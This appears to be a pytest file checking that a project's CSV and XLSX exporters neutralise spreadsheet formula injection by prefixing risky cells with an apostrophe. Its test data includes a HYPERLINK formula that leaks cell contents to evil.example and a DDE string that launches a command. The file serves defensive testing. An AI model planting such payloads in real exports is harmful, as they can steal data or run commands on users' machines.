"""Formula injection: a hostile cell is neutralised by every CSV and XLSX writer; numbers stay
numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from diaspora_atlas.report.cells import CsvWriter, safe_cell
from diaspora_atlas.report.exports import write_table
from diaspora_atlas.report.tables import Table
from diaspora_atlas.report.writers import write_csvs, write_xlsx
from diaspora_atlas.web.downloads import CSV_COLUMNS, selection_csv

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_would_run_gets_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3.5, 7, 0, None, "-3.5", "-77.03650", "+12", "-1e5", "abc"])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_csv_writer_writes_neutralised_cells() -> None:
    out = io.StringIO()
    CsvWriter(out).writerows([list(HOSTILE), [-3.5, 7, "-0.12574"]])
    hostile, numbers = list(csv.reader(io.StringIO(out.getvalue())))
    assert hostile == ["'" + v for v in HOSTILE]
    assert numbers == ["-3.5", "7", "-0.12574"]


def test_a_carriage_return_cannot_start_a_row_of_its_own() -> None:
    out = io.StringIO()
    CsvWriter(out).writerows([["x\r=cmd|' /C calc'!A0", 5, None], ["next", 6, None]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["x\r=cmd|' /C calc'!A0", "5", ""], ["next", "6", ""]]


def hostile_table() -> Table:
    return Table(
        "hostile",
        "=1+1",
        ("name", "count", "longitude"),
        tuple((value, -3, -3.5) for value in HOSTILE),
        notes=("@note",),
    )


def test_report_tables_as_csv(tmp_path: Path) -> None:
    [path] = write_csvs([hostile_table()], tmp_path)
    header, *rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert header == ["name", "count", "longitude"]
    assert [row[0] for row in rows] == ["'" + v for v in HOSTILE]
    assert rows[0][1:] == ["-3", "-3.5"]


def test_report_tables_as_xlsx(tmp_path: Path) -> None:
    path = write_xlsx([hostile_table()], tmp_path / "tables.xlsx", [("=cmd", "-danger")])
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name), f"a live formula in {name}"
    book = openpyxl.load_workbook(path)
    sheet = book["hostile"]
    assert sheet["A1"].value == "'=1+1" and sheet["A1"].data_type == "s"
    names = [sheet.cell(row=3 + i, column=1) for i in range(len(HOSTILE))]
    # Some XML parsers read a carriage return back as a line feed (openpyxl without lxml);
    # the text is kept otherwise.
    read = [str(c.value).replace("\r", "\n") for c in names]
    assert read == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert {c.data_type for c in names} == {"s"}
    assert sheet["B3"].value == -3 and sheet["C3"].value == -3.5
    assert sheet["B3"].data_type == sheet["C3"].data_type == "n"
    assert sheet.cell(row=3 + len(HOSTILE) + 1, column=1).value == "'@note"
    assert [c.value for c in book["README"][1]] == ["'=cmd", "'-danger"]


def test_flat_exports(tmp_path: Path) -> None:
    path = tmp_path / "organisations.csv"
    rows = [{"name": value, "hq_lon": "-0.12574", "year": 1999} for value in HOSTILE]
    write_table(path, ["name", "hq_lon", "year"], rows)
    written = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert [row["name"] for row in written] == ["'" + v for v in HOSTILE]
    assert {(row["hq_lon"], row["year"]) for row in written} == {("-0.12574", "1999")}


def test_selection_download(tmp_path: Path) -> None:
    row = {
        "id": "org-1",
        "name": HOSTILE[0],
        "host_iso3": "GBR",
        "host_name": "United Kingdom",
        "origins": [{"iso3": "NGA", "name": "@Nigeria"}],
        "mission_summary": "-cmd",
        "founded_year": 1990,
        "url": "/organisations/org-1/",
    }
    [written] = list(
        csv.DictReader(
            io.StringIO(
                selection_csv(
                    [row], "http://x", {}, {"version": "1", "date": "2026-12-01"}, "http://x/q"
                )
            )
        )
    )
    assert list(written) == list(CSV_COLUMNS)
    assert written["name"] == "'" + HOSTILE[0]
    assert written["origin_names"] == "'@Nigeria" and written["mission_summary"] == "'-cmd"
    assert written["founded_year"] == "1990"
